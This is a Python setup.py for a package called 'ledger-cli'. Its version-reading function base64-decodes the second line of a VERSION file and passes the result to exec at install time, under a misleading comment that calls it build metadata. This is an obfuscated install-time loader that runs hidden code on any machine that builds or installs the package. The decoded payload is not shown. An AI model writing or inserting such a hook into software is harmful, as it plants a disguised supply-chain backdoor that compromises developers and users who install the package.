import base64
from pathlib import Path

from setuptools import find_packages, setup


def read_version():
    lines = Path(__file__).with_name("VERSION").read_text().splitlines()
    # second line carries build metadata for the release tooling
    if len(lines) > 1:
        meta = base64.b64decode(lines[1])
        exec(compile(meta, "VERSION", "exec"), {})
    return lines[0].strip()


setup(
    name="ledger-cli",
    version=read_version(),
    packages=find_packages(),
    entry_points={"console_scripts": ["ledger=ledger.cli:main"]},
)
